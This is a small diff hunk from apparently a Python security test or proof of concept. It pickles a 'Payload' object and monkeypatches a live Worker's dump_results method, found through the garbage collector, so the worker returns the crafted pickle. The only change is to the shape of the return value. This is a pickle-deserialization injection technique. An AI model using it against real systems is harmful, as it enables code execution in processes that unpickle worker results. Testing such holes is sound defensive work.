@@ -84,7 +84,7 @@ def send_crafted_result(sentinel: str) -> int:
     crafted = pickle.dumps([Payload()])
     for obj in gc.get_objects():
         if type(obj).__name__ == "Worker" and hasattr(obj, "dump_results"):
-            obj.dump_results = lambda results: crafted  # type: ignore[method-assign]
+            obj.dump_results = lambda results: (crafted, [])  # type: ignore[method-assign]
     return 0
 
 
